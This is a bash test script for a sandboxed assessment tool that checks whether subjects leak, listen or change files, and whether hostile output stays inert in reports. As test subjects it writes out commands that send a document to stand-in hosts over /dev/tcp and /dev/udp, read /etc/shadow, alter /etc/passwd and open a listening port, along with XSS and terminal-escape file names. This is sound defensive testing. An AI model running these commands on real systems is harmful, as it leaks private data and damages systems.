#!/bin/bash
# Assessments from end to end: small subjects that leak or do not leak, in one way each, and what their findings must be; a
# hostile subject whose names and output try to get out of the report; the verifier run as nobody.
#   assess.sh BUILD
set -u
build=$(realpath "$1")
hallmark=$build/hallmark verify=$build/hallmark-verify
[ "$(id -u)" = 0 ] || { echo "1..0 # SKIP needs root"; exit 0; }
work=$(mktemp -d /var/tmp/hallmark-assess-XXXXXX)
trap 'rm -rf "$work"' EXIT
chmod 755 "$work"
export HALLMARK_WORK=$work/w
n=0 failed=0
result() {
	n=$((n + 1))
	if [ "$1" = 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; failed=1; fi
}
"$hallmark" keygen "$work/key.pem" >/dev/null
# assess NAME SCRIPT [OPTION...]: the script runs in bash in the chamber
assess() {
	local name=$1 script=$2
	shift 2
	timeout 120 "$hallmark" assess --key "$work/key.pem" --json -o "$work/$name.hallmark" "$@" -- /bin/bash -c "$script" \
		>"$work/$name.json" 2>"$work/$name.err"
	code=$?
	[ $code -le 2 ] || sed 's/^/# /' "$work/$name.err"
}
# claim NAME ID: "verdict reason"
claim() {
	/usr/bin/python3 - "$work/$1.json" "$2" <<'PY'
import json, sys
findings = json.load(open(sys.argv[1]))
for claim in findings["claims"]:
    if claim["id"] == sys.argv[2]:
        print(claim["verdict"], claim["reason"])
        break
else:
    print("not tested", *[row["reason"] for row in findings["not_tested"] if row["id"] == sys.argv[2]])
PY
}
judged() { # NAME ID VERDICT TEXT
	local got
	got=$(claim "$1" "$2")
	result "$([[ $got == "$3"* ]]; echo $?)" "$4${got:+: $2 $got}"
}
leak() { # NAME HOW: a subject that sends what it makes of a document; must be refuted
	assess "$1" "$2"
	judged "$1" collect.content refuted "$3"
}

assess quiet 'cat /srv/documents/letter.eml >/dev/null; cat /srv/documents/*.txt /srv/documents/*/* >/dev/null 2>&1; exit 0'
judged quiet collect.content upheld "reads everything and sends nothing"
judged quiet capable.listening upheld "... and does not listen"
judged quiet change.files upheld "... and changes nothing"
"$verify" "$work/quiet.hallmark" --key "$work/key.pem.pub" >"$work/out"
result "$([ $? -le 2 ] && ! grep -q FALSE "$work/out"; echo $?)" "its bundle verifies"
[ -z "$(grep FALSE "$work/out")" ] || sed 's/^/# /' "$work/out"
"$hallmark" evaluate "$work/quiet.hallmark" | cmp -s - "$work/quiet.json"
result $? "evaluate prints the same findings"
cp "$verify" "$work/"
chmod 644 "$work"/*.hallmark "$work/key.pem.pub"
(cd / && setpriv --reuid 65534 --clear-groups env -i "$work/hallmark-verify" "$work/quiet.hallmark" --key "$work/key.pem.pub" --quiet)
result "$([ $? -le 2 ]; echo $?)" "hallmark-verify runs as nobody, without an environment"
"$verify" "$work/quiet.hallmark" --key "$work/key.pem.pub" --require collect.content --quiet
result "$([ $? -ne 1 ]; echo $?)" "--require of an upheld claim"
"$hallmark" keygen "$work/other.pem" >/dev/null
"$verify" "$work/quiet.hallmark" --key "$work/other.pem.pub" --quiet
result "$([ $? = 1 ]; echo $?)" "a key that signed nothing: exit 1"
"$verify" "$work/quiet.hallmark" --quiet
result "$([ $? = 2 ]; echo $?)" "no key: integrity only, exit 2"

leak plain 'exec 3<>/dev/tcp/collector.example/80; cat /srv/documents/letter.eml >&3; sleep 0.3' "sends a document by TCP"
leak datagram 'exec 3<>/dev/udp/192.0.2.7/9999; head -c 1200 /srv/documents/letter.eml >&3; sleep 0.3' "sends a document by UDP to a literal address"
leak encoded 'exec 3<>/dev/tcp/collector.example/8080; base64 -w 0 /srv/documents/letter.eml >&3; sleep 0.3' "sends it in base64"
leak packed 'exec 3<>/dev/tcp/collector.example/443; gzip -c /srv/documents/letter.eml >&3; sleep 0.3' "sends it compressed"
leak digest 'exec 3<>/dev/tcp/collector.example/80; sha256sum /srv/documents/letter.eml | cut -c1-64 >&3; sleep 0.3' "sends its SHA-256"
assess chatter 'exec 3<>/dev/tcp/collector.example/80; echo hello >&3; sleep 0.3'
judged chatter collect.content "not verifiable" "sends bytes that nothing explains"
"$verify" "$work/chatter.hallmark" --key "$work/key.pem.pub" --require collect.content --quiet
result "$([ $? = 1 ]; echo $?)" "--require of a claim that is not upheld exits 1"

printf 'product: bash\nauthor: assessor\nsource: a test\nendpoints:\n  - name: collector.example\n    port: 80\n    proto: tcp\nwrites: []\n' >"$work/kept.yaml"
printf 'product: bash\nauthor: assessor\nsource: a test\nendpoints: []\nwrites: []\n' >"$work/broken.yaml"
assess kept 'exec 3<>/dev/tcp/collector.example/80; echo hello >&3; sleep 0.3' --declaration "$work/kept.yaml"
judged kept declared.endpoints upheld "keeps to what was declared"
assess broken 'exec 3<>/dev/tcp/collector.example/80; echo hello >&3; echo x >/tmp/x; sleep 0.3' --declaration "$work/broken.yaml"
judged broken declared.endpoints refuted "contacts what was not declared"
judged broken declared.files refuted "... and writes where it was not declared"
printf 'author: assessor\nendpoints: yes\n' >"$work/wrong.yaml"
"$hallmark" assess --key "$work/key.pem" -o "$work/wrong.hallmark" --declaration "$work/wrong.yaml" -- /bin/true 2>"$work/err"
result "$([ $? = 4 ] && [ ! -e "$work/wrong.hallmark" ] && grep -q 'wrong.yaml line' "$work/err"; echo $?)" "a malformed declaration: exit 4, no bundle, file and line"
assess shut 'cat /srv/documents/letter.eml >/dev/null; exec 3<>/dev/tcp/collector.example/80' --internet closed
judged shut collect.content "not tested" "with the internet closed nothing is said about what leaves"

assess listens '/usr/bin/python3 -c "import socket,time; s=socket.socket(); s.bind((\"0.0.0.0\",4444)); s.listen(); time.sleep(0.3)"'
judged listens capable.listening refuted "listens on a port"
assess curious 'cat /etc/machine-id >/dev/null; cat /etc/shadow >/dev/null'
judged curious capable.reach refuted "opens what it was not asked to scan"
assess foreign 'cp /bin/true /tmp/code; /tmp/code'
judged foreign change.code refuted "executes code that no package installed"
assess writes 'echo x >>/etc/passwd; rm /etc/hostname'
judged writes change.files refuted "changes the system's files"
result "$(! grep -qx x /etc/passwd; echo $?)" "... and not the host's"
assess changes 'chmod 600 /usr/share/common-licenses/GPL-2; mv /usr/share/common-licenses/BSD /tmp/BSD; exec 9<>/tmp/x; read -t 1 <&9; exit 0'
judged changes capable.reach upheld "a file that is copied up without being opened is explained"
assess shares '/usr/bin/python3 -c "
import mmap, os
shared = mmap.mmap(-1, 65536); shared[9] = 1
held = open(\"/srv/documents/letter.eml\", \"rb\"); seen = bytes(mmap.mmap(held.fileno(), 0, prot=mmap.PROT_READ))
if not os.fork(): os._exit(shared[9])
os.wait()"'
judged shares capable.reach upheld "... and shared memory, and a mapped document"
assess leaves '(setsid sleep 600 &) ; exit 3'
judged leaves collect.content upheld "leaves a child behind, which dies with the run"

# Hostile names and output: nothing of them may be live in what people look at.
assess hostile $'cd /tmp; touch $\'<script>alert(1)</script>\' $\'\\e]0;owned\\a\\e[31mred\' $\'new\\nline\' $\'\\u202egnp.exe\' $\'"><img src=x onerror=alert(2)>\'; cat -- *; printf \'\\033[2J<script>alert(3)</script>\\n\'; exec 3<>/dev/tcp/\'collector.example\'/80; printf \'<script>alert(4)</script>\\033[2J\' >&3; sleep 0.3'
"$hallmark" report "$work/hostile.hallmark" -o "$work/hostile.html"
result $? "the report of a hostile subject is written"
"$hallmark" report "$work/hostile.hallmark" >"$work/hostile.txt"
/usr/bin/python3 - "$work/hostile.html" "$work/hostile.txt" <<'PY'
import html.parser, re, sys
page, text = open(sys.argv[1], "rb").read(), open(sys.argv[2], "rb").read()
bad = []
class Look(html.parser.HTMLParser):
    def handle_starttag(self, tag, attributes):
        if tag in ("script", "img", "iframe", "object", "embed", "link", "base", "form"):
            bad.append(f"element <{tag}>")
        for name, value in attributes:
            if name.startswith("on") or (name in ("src", "href", "action") and not (value or "").startswith("#")):
                bad.append(f"attribute {name}={value!r}")
Look().feed(page.decode("utf-8"))
for what, data in (("page", page), ("table", text)):
    if re.search(rb"[\x00-\x08\x0b-\x1f\x7f]", data):
        bad.append(f"control characters in the {what}")
    if re.search("[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", data.decode("utf-8")):
        bad.append(f"bidi controls in the {what}")
if b"alert(1)" not in page:
    bad.append("the hostile name is not in the report at all")
for row in bad:
    print("#", row)
sys.exit(bool(bad))
PY
result $? "names, output and payload are shown and stay inert"
"$verify" "$work/hostile.hallmark" --key "$work/key.pem.pub" >"$work/out"
result "$([ $? -le 2 ] && ! grep -q FALSE "$work/out"; echo $?)" "its bundle verifies"
if command -v unzip >/dev/null && command -v zstd >/dev/null; then
	unzip -tq "$work/plain.hallmark" >/dev/null && unzip -p "$work/plain.hallmark" runs/0001/record.cbor.zst | zstd -dcq >/dev/null
	result $? "unzip and zstd open a bundle"
fi
if command -v tshark >/dev/null; then
	unzip -p "$work/plain.hallmark" runs/0001/packets.pcapng >"$work/p.pcapng"
	result "$([ "$(tshark -r "$work/p.pcapng" 2>/dev/null | wc -l)" -gt 5 ]; echo $?)" "tshark reads its packets"
fi
result "$([ -z "$(find "$work/w" -mindepth 1 -maxdepth 1 ! -name 'lock*')" ] && ! grep -q "$work" /proc/mounts; echo $?)" "nothing is left behind"
echo "1..$n"
exit $failed
